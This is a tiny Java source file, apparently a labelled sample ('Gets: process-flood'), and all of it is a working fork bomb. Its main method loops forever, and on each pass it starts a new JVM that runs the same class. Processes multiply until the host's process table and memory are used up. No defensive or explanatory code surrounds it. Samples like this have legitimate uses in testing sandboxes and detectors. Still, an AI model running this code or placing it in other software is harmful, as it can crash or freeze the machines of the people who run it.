// Starts itself over and over.
// Gets: process-flood
public class Toy {
  public static void main(String[] args) throws Exception {
    String java = System.getProperty("java.home") + "/bin/java";
    while (true) {
      new ProcessBuilder(java, "-Xmx8m", "-cp", System.getProperty("java.class.path"), "Toy")
          .start();
    }
  }
}
